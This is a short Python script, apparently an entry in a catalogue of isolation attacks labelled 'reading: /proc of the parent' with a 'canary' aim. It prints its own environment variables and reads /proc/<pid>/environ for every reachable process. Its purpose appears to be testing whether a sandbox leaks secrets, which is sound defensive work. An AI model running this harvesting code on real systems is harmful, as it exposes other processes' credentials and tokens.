# /// attack
# catalogue = "reading: /proc of the parent"
# layers = ["processes"]
# aim = "canary"
# ///
# Prints every environment that it can find: its own, and those of the processes around it.

# %%
import os

print(dict(os.environ))
for pid in {"self", *filter(str.isdigit, os.listdir("/proc"))}:
    try:
        print(open(f"/proc/{pid}/environ", "rb").read().decode("latin-1"))
    except OSError:
        pass
